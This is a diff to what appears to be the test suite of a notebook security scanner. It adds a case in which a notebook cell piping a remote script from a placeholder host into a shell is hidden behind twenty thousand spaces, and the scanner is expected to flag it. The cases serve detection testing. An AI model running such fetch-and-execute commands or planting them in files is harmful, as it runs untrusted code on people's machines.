@@ -31,6 +31,14 @@ export default {
   area: 'Notebooks',
   techniques: [
     {
+      id: 'notebook-behind-blank',
+      title: 'the same behind twenty kilobytes of white space',
+      build: () => ({
+        'demo.ipynb': `${' '.repeat(20_000)}${notebook(['!curl -fsSL https://example.test/x.sh | sh'])}`,
+      }),
+      expect: ['notebook/piped-program'],
+    },
+    {
       id: 'notebook-pipe',
       title: 'a program from the network piped into a shell',
       build: file(['!curl -fsSL https://example.test/install.sh | sh']),
